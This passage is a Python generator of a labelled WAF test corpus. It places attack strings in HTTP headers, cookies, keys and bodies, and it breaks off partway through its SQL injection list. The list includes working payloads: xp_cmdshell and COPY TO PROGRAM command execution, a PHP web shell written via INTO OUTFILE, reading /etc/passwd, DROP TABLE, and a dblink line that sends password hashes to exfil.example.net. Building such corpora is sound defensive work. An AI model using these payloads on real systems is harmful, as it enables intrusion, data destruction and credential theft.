#!/usr/bin/env python3
"""Held-out "carriers" corpus for the Palisade WAF.

What it is
    A deterministic generator (stdlib only, fixed seed) of labelled HTTP requests
    about the parts of a request that WAFs inspect least: header values that
    applications log, echo or trust (Referer, X-Forwarded-For, Forwarded,
    X-Original-URL, Accept-Language, If-None-Match, Range, From, Via,
    X-Request-ID, X-Tenant-ID, Authorization Basic user names, gateway identity
    headers ...), cookie names and values (plain, JSON, base64, URL-encoded,
    Rails / Flask / Express signed-cookie look-alikes), query parameter NAMES
    (a[b][c], a.b.c, a[]=), JSON object KEYS, XML attribute values, multipart
    part names / filenames / part headers, path segments (REST ids, ;jsessionid=
    matrix parameters, PHP PATH_INFO, encoded slashes), URL fragments sent by
    broken clients, _method override fields, GraphQL variables and operation
    names, JSON-RPC params, SOAP headers, JWT-like tokens and values split over
    two parameters that the application joins.

Applications / technologies
    PHP (Laravel, Symfony, WordPress-style, ThinkPHP), Java (Spring, Struts,
    Tomcat, Log4j, JSF/JSP EL, Jackson/Fastjson, XStream), Python (Flask/Jinja2,
    Django, Tornado, Mako), Node.js (Express, EJS, Pug, Nunjucks, Handlebars),
    Ruby on Rails (ERB), ASP.NET, MySQL / PostgreSQL / MSSQL / Oracle / SQLite,
    MongoDB, LDAP / Active Directory, SOAP and XML services, GraphQL and
    JSON-RPC APIs, cloud metadata services.

Modes
    attacks  every request is a real attack or the real probe of one, placed in
             one of the carriers above; expect "detect"; category one of sqli,
             xss, lfi, rfi, rce, php, java, ssrf, xxe, ssti, nosqli, ldapi, crlf,
             protocol, scanner, generic.  Encodings vary: URL, double URL,
             base64 (cookies / headers), HTML entities in XML, unicode escapes in
             JSON keys.
    benign   legitimate traffic of the same applications whose headers,
             cookies, names and keys are rich and odd (W3C trace context, B3,
             X-Amzn-Trace-Id, Datadog, AWS SigV4, Azure SAS, GCS signed URLs,
             Stripe/GitHub/Slack signatures, consent and analytics cookies,
             feature-flag JSON cookies, client hints, Forwarded with IPv6,
             nested query names, JSON-LD / OData / Kubernetes keys, namespaced
             XML, non-ASCII multipart filenames, matrix parameters ...);
             category "benign", expect "pass".  About 15 % is "dev-content"
             (expect "pass"): legitimate requests whose user content is itself
             code, SQL, shell, markup, templates or query expressions.

Written blind
    This generator was written without reading the Palisade rule set, its
    tests or test data, the proxy profiles or the other corpus generators, and
    without running or building the WAF.  Payloads come from general knowledge
    of real traffic and of published attack techniques.  All hosts are example
    names or documentation addresses, except internal addresses that are
    themselves the payload (cloud metadata, loopback, RFC 1918).  Nothing is
    sent anywhere.

Run
    python3 scripts/corpus-carriers.py attacks > rulesets/tests/data/carriers-attacks.jsonl
    python3 scripts/corpus-carriers.py benign  > rulesets/tests/data/carriers-benign.jsonl
"""

import base64
import hashlib
import json
import random
import re
import sys
from urllib.parse import quote, quote_plus

SEED = 0xCA221E25
SET = "carriers"

# ---------------------------------------------------------------------------
# helpers
# ---------------------------------------------------------------------------

R = random.Random(SEED)

UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.97",
]
UA_TOOLS = [
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "axios/1.6.8",
    "Go-http-client/2.0",
    "curl/8.5.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "ShopApp/5.12.1 (iPhone; iOS 17.4.1; Scale/3.00)",
    "ShopApp/5.12.0 (Android 14; SM-S918B; Build/UP1A.231005.007)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "aws-sdk-js/3.540.0 ua/2.0 os/linux lang/js md/nodejs#20.12.0",
]
UAS = UA_BROWSERS + UA_TOOLS

HOSTS = [
    "app.example.com", "shop.example.com", "api.example.com", "portal.example.net",
    "intranet.example.org", "accounts.example.com", "cms.example.org",
    "support.example.net", "billing.example.com", "hr.example.org",
]

HEX = "0123456789abcdef"
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def hexid(n):
    return "".join(R.choice(HEX) for _ in range(n))


def alnum(n):
    return "".join(R.choice(ALNUM) for _ in range(n))


def fuuid():
    h = hexid(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], R.choice("89ab"), h[17:20], h[20:32])


def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode("ascii")


def b64u(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.urlsafe_b64encode(s).decode("ascii").rstrip("=")


def pct(s, safe=""):
    return quote(s, safe=safe)


def upct(s, safe=""):
    """Percent-encode, but keep %XX sequences the payload already carries (pre-encoded payloads)."""
    if re.search(r"%[0-9A-Fa-f]{2}", s):
        return quote(s, safe=safe + "%")
    return quote(s, safe=safe)


def dpct(s):
    return quote(quote(s, safe=""), safe="")


def qp(s):
    return quote_plus(s, safe="")


def form(pairs, brackets=False):
    """application/x-www-form-urlencoded; brackets=True keeps [] raw in names."""
    out = []
    for k, v in pairs:
        kk = quote_plus(k, safe="[]" if brackets else "")
        out.append(kk + "=" + quote_plus(v, safe=""))
    return "&".join(out)


def jdump(o, **kw):
    return json.dumps(o, separators=(",", ":"), ensure_ascii=kw.pop("ensure_ascii", False), **kw)


def jwt_like(claims, header=None, sig=True):
    header = header or {"alg": "HS256", "typ": "JWT"}
    s = b64u(jdump(header)) + "." + b64u(jdump(claims)) + "."
    if sig:
        s += b64u(hashlib.sha256((jdump(claims) + str(SEED)).encode()).digest())
    return s


def xml_attr(s):
    return (s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;").replace("'", "&apos;"))


def xml_text(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def uni_escape_json(s):
    """JSON string literal where every non-alphanumeric char is a \\uXXXX escape."""
    return '"' + "".join(c if c.isalnum() else "\\u%04x" % ord(c) for c in s) + '"'


def multipart(parts, boundary=None):
    """parts: list of dicts(name, value, filename=None, ctype=None, extra=[])."""
    boundary = boundary or ("----WebKitFormBoundary" + alnum(16))
    lines = []
    for p in parts:
        lines.append("--" + boundary)
        cd = p.get("cd")
        if cd is None:
            cd = 'form-data; name="%s"' % p["name"]
            if p.get("filename") is not None:
                cd += '; filename="%s"' % p["filename"]
        lines.append("Content-Disposition: " + cd)
        for h in p.get("extra", []):
            lines.append("%s: %s" % h)
        if p.get("ctype"):
            lines.append("Content-Type: " + p["ctype"])
        lines.append("")
        lines.append(p["value"])
    lines.append("--" + boundary + "--")
    lines.append("")
    return "\r\n".join(lines), "multipart/form-data; boundary=" + boundary


class Corpus:
    def __init__(self, mode):
        self.mode = mode
        self.rows = []
        self.counters = {}

    def _id(self, name):
        n = self.counters.get(name, 0) + 1
        self.counters[name] = n
        return "%s/%s/%s-%03d" % (SET, self.mode, name, n)

    def add(self, name, category, method, uri, headers=None, body=None, ctype=None,
            host=None, ua=None, version="HTTP/1.1", accept=None):
        headers = [list(h) for h in (headers or [])]
        names = [h[0].lower() for h in headers]
        base = []
        if "host" not in names:
            base.append(["Host", host or R.choice(HOSTS)])
        if "user-agent" not in names:
            base.append(["User-Agent", ua or R.choice(UAS)])
        if "accept" not in names:
            base.append(["Accept", accept or ("application/json" if body is not None and ctype and "json" in ctype
                                              else "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")])
        hs = base + headers
        if body is not None:
            if ctype and "content-type" not in names:
                hs.append(["Content-Type", ctype])
            if "content-length" not in names:
                hs.append(["Content-Length", str(len(body.encode("utf-8")))])
        expect = "detect" if self.mode == "attacks" else "pass"
        row = {"id": self._id(name), "set": SET, "category": category, "expect": expect,
               "method": method, "uri": uri, "version": version, "headers": hs}
        if body is not None:
            row["body"] = body
        self.rows.append(row)
        return row

    def add_raw(self, name, category, raw):
        expect = "detect" if self.mode == "attacks" else "pass"
        self.rows.append({"id": self._id(name), "set": SET, "category": category,
                          "expect": expect, "raw_b64": b64(raw)})


# ---------------------------------------------------------------------------

# --- attack carriers -------------------------------------------------------
# Each carrier puts one payload string where a real application reads it.
# Signature: carrier(c, name, cat, p) -> adds one request.

def _browser_hdrs(ref=True):
    h = [["Accept-Language", "en-US,en;q=0.9"], ["Accept-Encoding", "gzip, deflate, br"]]
    if ref and R.random() < 0.5:
        h.append(["Referer", "https://%s/" % R.choice(HOSTS)])
    return h


def _hdr(hname, wrap=lambda p: p, path=None, method="GET"):
    def f(c, name, cat, p):
        uri = path or R.choice(["/", "/account", "/api/v1/me", "/products?page=2", "/login",
                                "/dashboard", "/search?q=shoes", "/checkout/cart"])
        hs = [h for h in _browser_hdrs(ref=hname != "Referer")] + [[hname, wrap(p)]]
        c.add(name, cat, method, uri, hs)
    return f


def _ua(c, name, cat, p):
    c.add(name, cat, "GET", R.choice(["/", "/index.php", "/about", "/cgi-bin/status"]),
          [["User-Agent", p]] + _browser_hdrs())


def _xff_chain(c, name, cat, p):
    c.add(name, cat, "GET", "/api/v1/session",
          [["X-Forwarded-For", "%s, 198.51.100.23" % p], ["X-Forwarded-Proto", "https"]] + _browser_hdrs())


def _forwarded(c, name, cat, p):
    c.add(name, cat, "GET", "/login?next=%2Faccount",
          [["Forwarded", 'for="%s";proto=https;by=203.0.113.43' % p.replace('"', '\\"')]] + _browser_hdrs())


def _basic_user(c, name, cat, p):
    c.add(name, cat, "GET", R.choice(["/admin/", "/api/v2/reports", "/dav/", "/jenkins/api/json"]),
          [["Authorization", "Basic " + b64(p + ":Winter2024!")]])


def _cookie_plain(c, name, cat, p):
    v = p if (";" not in p and "," not in p and " " not in p) else upct(p, safe="'()=*<>/:$")
    c.add(name, cat, "GET", "/account/orders",
          [["Cookie", "PHPSESSID=%s; lang=%s; theme=dark" % (hexid(26), v)]] + _browser_hdrs())


def _cookie_urlenc(c, name, cat, p):
    c.add(name, cat, "GET", "/shop/cart",
          [["Cookie", "_ga=GA1.2.%d.%d; cart_id=%s; last_viewed=%s" % (
              R.randint(10**8, 10**9), R.randint(1600000000, 1717000000), fuuid(), upct(p))]] + _browser_hdrs())


def _cookie_dpct(c, name, cat, p):
    c.add(name, cat, "GET", "/profile",
          [["Cookie", "sid=%s; prefs=%s" % (alnum(32), dpct(p))]] + _browser_hdrs())


def _cookie_b64(c, name, cat, p):
    c.add(name, cat, "GET", "/dashboard",
          [["Cookie", "remember_user=%s; JSESSIONID=%s" % (b64(p), hexid(32).upper())]] + _browser_hdrs())


def _cookie_json(c, name, cat, p):
    v = jdump({"uid": R.randint(1000, 99999), "locale": "en", "tz": p})
    c.add(name, cat, "GET", "/app/home",
          [["Cookie", "session_meta=%s; csrftoken=%s" % (upct(v, safe="{}:,"), alnum(32))]] + _browser_hdrs())


def _cookie_rails(c, name, cat, p):
    data = b64(jdump({"session_id": hexid(32), "user_return_to": p, "_csrf_token": b64(alnum(24))}))
    c.add(name, cat, "GET", "/users/sign_in",
          [["Cookie", "_myapp_session=%s--%s" % (upct(data), hexid(40))]] + _browser_hdrs())


def _cookie_flask(c, name, cat, p):
    v = b64u(jdump({"_fresh": True, "user_id": p}))
    c.add(name, cat, "GET", "/notes/",
          [["Cookie", "session=%s.%s.%s" % (v, b64u(R.randbytes(4) if hasattr(R, "randbytes") else b"Zk3q"), alnum(27))]] + _browser_hdrs())


def _cookie_express(c, name, cat, p):
    c.add(name, cat, "GET", "/api/profile",
          [["Cookie", "connect.sid=s%%3A%s.%s; session=%s; session.sig=%s" % (
              alnum(32), alnum(43), b64(jdump({"passport": {"user": p}})), alnum(27))]] + _browser_hdrs())


def _cookie_name(c, name, cat, p):
    c.add(name, cat, "GET", "/index.php?page=home",
          [["Cookie", "%s=1; PHPSESSID=%s" % (upct(p, safe="[]'()*"), hexid(26))]] + _browser_hdrs())


def _qname(c, name, cat, p):
    c.add(name, cat, "GET", "/api/products?%s=1&page=1" % upct(p), _browser_hdrs())


def _qname_bracket(c, name, cat, p):
    c.add(name, cat, "GET", "/api/v1/tickets?filter[%s]=open&page[size]=25" % upct(p), _browser_hdrs())


def _qname_sort(c, name, cat, p):
    c.add(name, cat, "GET", "/admin/users?sort[%s]=asc&per_page=50" % upct(p, safe="'()*"), _browser_hdrs())


def _qname_dotted(c, name, cat, p):
    c.add(name, cat, "GET", "/search?opts.highlight.%s=true&q=report" % upct(p), _browser_hdrs())


def _qname_array(c, name, cat, p):
    c.add(name, cat, "GET", "/catalog?%s[]=red&%s[]=blue" % (upct(p), upct(p)), _browser_hdrs())


def _form_name(c, name, cat, p):
    body = form([("email", "jane.doe@example.com"), (p, "1"), ("submit", "Save")])
    c.add(name, cat, "POST", "/settings/notifications", _browser_hdrs(), body,
          "application/x-www-form-urlencoded")


def _json_key(c, name, cat, p):
    body = jdump({"filters": {p: "active"}, "page": 1, "limit": 20})
    c.add(name, cat, "POST", "/api/v2/customers/search", [], body, "application/json",
          ua=R.choice(UA_TOOLS))


def _json_key_top(c, name, cat, p):
    body = jdump({"name": "Quarterly report", p: True})
    c.add(name, cat, "PATCH", "/api/v1/documents/%d" % R.randint(100, 9999), [], body,
          "application/json")


def _json_key_unicode(c, name, cat, p):
    body = '{"orderBy":{%s:"desc"},"first":25}' % uni_escape_json(p)
    c.add(name, cat, "POST", "/api/orders/query", [], body, "application/json")


def _json_nested_value(c, name, cat, p):
    body = jdump({"user": {"profile": {"address": {"city": p, "zip": "10115"}}}})
    c.add(name, cat, "PUT", "/api/v1/users/me", [["Authorization", "Bearer " + jwt_like(
        {"sub": str(R.randint(1000, 9999)), "iat": 1716200000})]], body, "application/json")


def _xml_attr(c, name, cat, p):
    body = ('<?xml version="1.0" encoding="UTF-8"?>\n<order xmlns="urn:example:orders:1">'
            '<item sku="%s" qty="2"/><shipTo country="DE"/></order>' % xml_attr(p))
    c.add(name, cat, "POST", "/ws/orders", [], body, "application/xml")


def _xml_text(c, name, cat, p):
    body = ('<?xml version="1.0"?>\n<search><term>%s</term><limit>10</limit></search>' % xml_text(p))
    c.add(name, cat, "POST", "/api/search.xml", [], body, "text/xml")


def _soap_header(c, name, cat, p):
    body = ('<?xml version="1.0" encoding="utf-8"?>\n'
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" '
            'xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">'
            '<soap:Header><wsse:Security><wsse:UsernameToken><wsse:Username>%s</wsse:Username>'
            '<wsse:Password>changeit</wsse:Password></wsse:UsernameToken></wsse:Security></soap:Header>'
            '<soap:Body><GetBalance xmlns="urn:example:bank"><AccountId>DE89370400440532013000</AccountId>'
            '</GetBalance></soap:Body></soap:Envelope>' % xml_text(p))
    c.add(name, cat, "POST", "/services/AccountService", [["SOAPAction", '"urn:example:bank/GetBalance"']],
          body, "text/xml; charset=utf-8")


def _mp_name(c, name, cat, p):
    body, ct = multipart([{"name": "title", "value": "Invoice March"},
                          {"name": p, "value": "1"},
                          {"name": "file", "filename": "invoice.pdf", "ctype": "application/pdf",
                           "value": "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj"}])
    c.add(name, cat, "POST", "/documents/upload", _browser_hdrs(), body, ct)


def _mp_filename(c, name, cat, p):
    body, ct = multipart([{"name": "avatar", "filename": p.replace('"', "%22"), "ctype": "image/png",
                           "value": "\x89PNG\r\n\x1a\n" + alnum(40)}])
    c.add(name, cat, "POST", "/profile/avatar", _browser_hdrs(), body, ct)


def _mp_filename_raw(c, name, cat, p):
    body, ct = multipart([{"name": "upload", "filename": p, "ctype": "text/plain", "value": "hello"}])
    c.add(name, cat, "POST", "/files/upload", _browser_hdrs(), body, ct)


def _mp_parthdr(c, name, cat, p):
    body, ct = multipart([{"name": "attachment", "filename": "notes.txt", "ctype": p,
                           "value": "meeting notes"},
                          {"name": "ticket", "value": "4711"}])
    c.add(name, cat, "POST", "/helpdesk/attach", _browser_hdrs(), body, ct)


def _path_rest(c, name, cat, p):
    c.add(name, cat, "GET", "/api/v1/users/%s/orders" % upct(p), [["Accept", "application/json"]])


def _path_matrix(c, name, cat, p):
    c.add(name, cat, "GET", "/shop/catalog;jsessionid=%s" % upct(p, safe="'()*=:/"), _browser_hdrs())


def _path_info(c, name, cat, p):
    c.add(name, cat, "GET", "/index.php/%s" % upct(p, safe="/'()*=:"), _browser_hdrs())


def _path_encslash(c, name, cat, p):
    c.add(name, cat, "GET", "/files/download/%s" % upct(p), _browser_hdrs())


def _path_trailing(c, name, cat, p):
    c.add(name, cat, "GET", "/docs/v3/guide/%s" % upct(p, safe="'()*=:$"), _browser_hdrs())


def _fragment(c, name, cat, p):
    c.add(name, cat, "GET", "/app/inbox?folder=all#%s" % upct(p, safe="/'()=:$&?!"), _browser_hdrs(),
          ua="Java/1.8.0_292")


def _method_field(c, name, cat, p):
    body = form([("_method", p), ("_token", alnum(40)), ("title", "Draft")])
    c.add(name, cat, "POST", "/posts/812", _browser_hdrs(), body, "application/x-www-form-urlencoded")


def _graphql_var(c, name, cat, p):
    body = jdump({"operationName": "GetOrder",
                  "query": "query GetOrder($id: ID!) { order(id: $id) { id status total } }",
                  "variables": {"id": p}})
    c.add(name, cat, "POST", "/graphql", [["apollographql-client-name", "web"]], body, "application/json")


def _graphql_opname(c, name, cat, p):
    body = jdump({"operationName": p,
                  "query": "query Viewer { viewer { id login } }", "variables": {}})
    c.add(name, cat, "POST", "/api/graphql", [], body, "application/json")


def _jsonrpc(c, name, cat, p):
    body = jdump({"jsonrpc": "2.0", "id": R.randint(1, 999), "method": "inventory.lookup",
                  "params": {"warehouse": "FRA-2", "sku": p}})
    c.add(name, cat, "POST", "/rpc", [], body, "application/json")


def _jwt_claim(c, name, cat, p):
    tok = jwt_like({"sub": p, "name": "Jane", "iat": 1716200000, "exp": 1916200000})
    c.add(name, cat, "GET", "/api/v1/me", [["Authorization", "Bearer " + tok]], ua=R.choice(UA_TOOLS))


def _jwt_kid(c, name, cat, p):
    tok = jwt_like({"sub": "1042", "role": "user"}, header={"alg": "HS256", "typ": "JWT", "kid": p})
    c.add(name, cat, "GET", "/api/v2/wallet", [["Cookie", "access_token=" + tok]])


def _b64_principal(c, name, cat, p):
    princ = {"auth_typ": "aad", "claims": [{"typ": "name", "val": p},
                                            {"typ": "preferred_username", "val": "jdoe@example.com"}],
             "name_typ": "name", "role_typ": "roles"}
    c.add(name, cat, "GET", "/.auth/me", [["X-MS-CLIENT-PRINCIPAL", b64(jdump(princ))],
                                          ["X-MS-CLIENT-PRINCIPAL-IDP", "aad"]])


def _b64_userinfo(c, name, cat, p):
    c.add(name, cat, "GET", "/internal/profile",
          [["X-Userinfo", b64(jdump({"sub": fuuid(), "preferred_username": p, "email_verified": True}))]])


def _split_name(c, name, cat, p):
    # the application builds "first last": split at the space nearest the middle
    spaces = [i for i, ch in enumerate(p) if ch == " "]
    if spaces:
        k = min(spaces, key=lambda i: abs(i - len(p) // 2))
        first, last = p[:k], p[k + 1:]
    else:
        k = max(1, len(p) // 2)
        first, last = p[:k], p[k:]
    body = form([("first_name", first), ("last_name", last), ("email", "a.b@example.org")])
    c.add(name, cat, "POST", "/register", _browser_hdrs(), body, "application/x-www-form-urlencoded")


def _split_dirfile(c, name, cat, p):
    # the application builds dir + "/" + file
    k = p.rfind("/")
    d, f = (p[:k], p[k + 1:]) if k > 0 else ("", p)
    c.add(name, cat, "GET", "/download.php?dir=%s&file=%s" % (upct(d), upct(f)), _browser_hdrs())


def _split_hostport(c, name, cat, p):
    host, port = p, "8080"
    if re.match(r"^[\w.\-]+:\d+$", p):
        host, port = p.split(":")
    body = jdump({"host": host, "port": port, "path": "/health"})
    c.add(name, cat, "POST", "/api/integrations/test-connection", [], body, "application/json")


def _webhook_url(c, name, cat, p):
    body = jdump({"name": "deploy-hook", "events": ["push"], "config": {"url": p, "content_type": "json"}})
    c.add(name, cat, "POST", "/api/v3/hooks", [["X-Tenant-ID", "acme"]], body, "application/json")


def _jwt_jku(c, name, cat, p):
    tok = jwt_like({"sub": "88", "scope": "read"}, header={"alg": "RS256", "typ": "JWT", "jku": p, "kid": "k1"})
    c.add(name, cat, "GET", "/api/v1/accounts", [["Authorization", "Bearer " + tok]], ua=R.choice(UA_TOOLS))


def _ws_addressing(c, name, cat, p):
    body = ('<?xml version="1.0"?>\n<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
            'xmlns:a="http://www.w3.org/2005/08/addressing"><s:Header>'
            '<a:Action>urn:example:Notify</a:Action><a:ReplyTo><a:Address>%s</a:Address></a:ReplyTo>'
            '</s:Header><s:Body><Notify xmlns="urn:example"><Id>5531</Id></Notify></s:Body></s:Envelope>' % xml_text(p))
    c.add(name, cat, "POST", "/services/NotifyService", [], body, "application/soap+xml; charset=utf-8")


def _avatar_url(c, name, cat, p):
    body = form([("display_name", "Kim"), ("avatar_url", p)])
    c.add(name, cat, "POST", "/settings/profile", _browser_hdrs(), body, "application/x-www-form-urlencoded")


def _image_proxy(c, name, cat, p):
    c.add(name, cat, "GET", "/image-proxy/%s?w=320" % upct(p), _browser_hdrs(), accept="image/avif,image/webp,*/*")


def _forwarded_host(c, name, cat, p):
    c.add(name, cat, "GET", "/oauth/callback?code=" + alnum(20),
          [["Forwarded", "for=198.51.100.17;host=%s;proto=https" % p]] + _browser_hdrs())


def _xfh_hostonly(c, name, cat, p):
    c.add(name, cat, "GET", "/api/v1/status", [["X-Forwarded-Host", p]] + _browser_hdrs())


CARRIERS = {
    "jwt-jku": _jwt_jku,
    "ws-addressing": _ws_addressing,
    "avatar-url": _avatar_url,
    "image-proxy": _image_proxy,
    "xfh-hostonly": _xfh_hostonly,
    "forwarded-host": _forwarded_host,
    "referer": _hdr("Referer"),
    "origin": _hdr("Origin", path="/api/v1/cart", method="OPTIONS"),
    "xff": _hdr("X-Forwarded-For"),
    "xff-chain": _xff_chain,
    "x-real-ip": _hdr("X-Real-IP"),
    "true-client-ip": _hdr("True-Client-IP"),
    "forwarded": _forwarded,
    "xf-host": _hdr("X-Forwarded-Host", path="/password/reset"),
    "xf-proto": _hdr("X-Forwarded-Proto"),
    "xf-prefix": _hdr("X-Forwarded-Prefix", wrap=lambda p: "/" + p),
    "x-original-url": _hdr("X-Original-URL", wrap=lambda p: "/" + p, path="/"),
    "x-rewrite-url": _hdr("X-Rewrite-URL", wrap=lambda p: "/" + p, path="/"),
    "method-override": _hdr("X-HTTP-Method-Override", method="POST", path="/api/v1/items/77"),
    "accept-language": _hdr("Accept-Language", wrap=lambda p: p + ",en;q=0.8"),
    "if-none-match": _hdr("If-None-Match", wrap=lambda p: '"' + p + '"', path="/api/v1/catalog/etag"),
    "if-modified-since": _hdr("If-Modified-Since", path="/feed.xml"),
    "range": _hdr("Range", wrap=lambda p: "bytes=" + p, path="/media/video.mp4"),
    "from": _hdr("From"),
    "via": _hdr("Via", wrap=lambda p: "1.1 " + p),
    "content-language": _hdr("Content-Language"),
    "x-request-id": _hdr("X-Request-ID"),
    "x-correlation-id": _hdr("X-Correlation-ID", path="/api/payments/status"),
    "x-api-version": _hdr("X-Api-Version", path="/api/accounts"),
    "x-tenant-id": _hdr("X-Tenant-ID", path="/api/v1/invoices"),
    "x-client-version": _hdr("X-Client-Version", path="/api/mobile/bootstrap"),
    "x-device-id": _hdr("X-Device-Id", path="/api/mobile/register"),
    "x-timezone": _hdr("X-Timezone", path="/api/calendar/events"),
    "x-remote-user": _hdr("X-Remote-User", path="/admin/"),
    "x-auth-email": _hdr("X-Auth-Request-Email", path="/internal/dashboard"),
    "x-wap-profile": _hdr("X-Wap-Profile", wrap=lambda p: p),
    "x-csrf-token": _hdr("X-CSRF-Token", method="POST", path="/api/v1/settings"),
    "ua": _ua,
    "basic-user": _basic_user,
    "ms-principal": _b64_principal,
    "kong-userinfo": _b64_userinfo,
    "cookie": _cookie_plain,
    "cookie-urlenc": _cookie_urlenc,
    "cookie-dblenc": _cookie_dpct,
    "cookie-b64": _cookie_b64,
    "cookie-json": _cookie_json,
    "cookie-rails": _cookie_rails,
    "cookie-flask": _cookie_flask,
    "cookie-express": _cookie_express,
    "cookie-name": _cookie_name,
    "qname": _qname,
    "qname-bracket": _qname_bracket,
    "qname-sort": _qname_sort,
    "qname-dotted": _qname_dotted,
    "qname-array": _qname_array,
    "form-name": _form_name,
    "json-key": _json_key,
    "json-key-top": _json_key_top,
    "json-key-uesc": _json_key_unicode,
    "json-nested": _json_nested_value,
    "xml-attr": _xml_attr,
    "xml-text": _xml_text,
    "soap-header": _soap_header,
    "mp-name": _mp_name,
    "mp-filename": _mp_filename,
    "mp-parthdr": _mp_parthdr,
    "mp-filename-raw": _mp_filename_raw,
    "path-rest": _path_rest,
    "path-matrix": _path_matrix,
    "path-info": _path_info,
    "path-encslash": _path_encslash,
    "path-trailing": _path_trailing,
    "fragment": _fragment,
    "method-field": _method_field,
    "gql-var": _graphql_var,
    "gql-opname": _graphql_opname,
    "jsonrpc": _jsonrpc,
    "jwt-claim": _jwt_claim,
    "jwt-kid": _jwt_kid,
    "split-name": _split_name,
    "split-dirfile": _split_dirfile,
    "split-hostport": _split_hostport,
    "webhook-url": _webhook_url,
}


def place(c, cat, payloads, carriers, offset=0):
    """Put payload i into carrier (i + offset) mod n; id = <payload-name>-<carrier>."""
    for i, item in enumerate(payloads):
        pname, p = item[0], item[1]
        key = item[2] if len(item) > 2 else carriers[(i + offset) % len(carriers)]
        CARRIERS[key](c, "%s-%s" % (pname, key), cat, p)


# --- attack payloads: SQL injection -----------------------------------------

SQLI = [
    ("mysql-or-true", "' OR '1'='1' -- -"),
    ("mysql-sleep", "1' AND SLEEP(5)-- -"),
    ("xff-sleep-subselect", "'+(select*from(select(sleep(20)))a)+'"),
    ("postgres-stacked", "1;SELECT pg_sleep(10)--"),
    ("postgres-case-sleep", "'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)||'"),
    ("postgres-cast-error", "1 AND 1=CAST((SELECT current_user) AS int)"),
    ("postgres-copy-program", "';COPY (SELECT '') TO PROGRAM 'id'--"),
    ("mssql-waitfor", "1'; WAITFOR DELAY '0:0:5'--"),
    ("mssql-xp-cmdshell", "'; EXEC master..xp_cmdshell 'whoami'--"),
    ("mssql-convert-error", "1' AND 1=CONVERT(int,@@version)--"),
    ("oracle-dbms-pipe", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"),
    ("oracle-utl-inaddr", "1' AND (SELECT UTL_INADDR.get_host_name((SELECT user FROM dual)) FROM dual) IS NOT NULL--"),
    ("sqlite-master", "' UNION SELECT sql,NULL FROM sqlite_master--"),
    ("sqlite-randomblob", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))"),
    ("union-users", "' UNION SELECT NULL,username,password FROM users-- -"),
    ("union-info-schema", "-1 UNION ALL SELECT 1,2,group_concat(table_name) FROM information_schema.tables WHERE table_schema=database()"),
    ("extractvalue", "1 AND extractvalue(1,concat(0x7e,(SELECT version())))"),
    ("updatexml", "1' AND updatexml(1,concat(0x7e,user()),1)-- -"),
    ("floor-rand-dup", "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"),
    ("gtid-subset", "' AND GTID_SUBSET(CONCAT(0x7e,(SELECT @@version)),1)-- -"),
    ("order-by-probe", "1' ORDER BY 10-- -"),
    ("blind-substring", "1' AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>64-- -"),
    ("load-file", "x' AND 1=0 UNION SELECT load_file('/etc/passwd')-- -"),
    ("into-outfile", "' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("rlike-case", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    ("versioned-comment", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,@@version"),
    ("comment-spaces", "1'/**/or/**/'1'='1"),
    ("paren-or", "') OR ('a'='a"),
    ("dquote-or", "\" OR \"\"=\""),
    ("benchmark", "1 OR benchmark(5000000,md5(1))"),
    ("drop-table", "1;DROP TABLE sessions--"),
    ("column-or", "id) OR 1=1 OR (id"),
    ("order-case-when", "(CASE WHEN (SELECT substr(version(),1,1))='8' THEN name ELSE price END)"),
    ("dblink-exfil", "1;SELECT dblink_connect('host=exfil.example.net user=x password=x dbname='||(SELECT passwd FROM pg_shadow LIMIT 1))--"),
    ("hex-union", "0x31 UNION SELECT 0x61646d696e,0x70617373-- -"),
    ("limit-procedure", "1 LIMIT 1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,VERSION())),1)"),
]

SQLI_CARRIERS = ["xff", "referer", "ua", "cookie", "qname-sort", "json-key", "if-none-match",
                 "x-tenant-id", "basic-user", "cookie-b64", "path-rest", "gql-var", "jsonrpc",
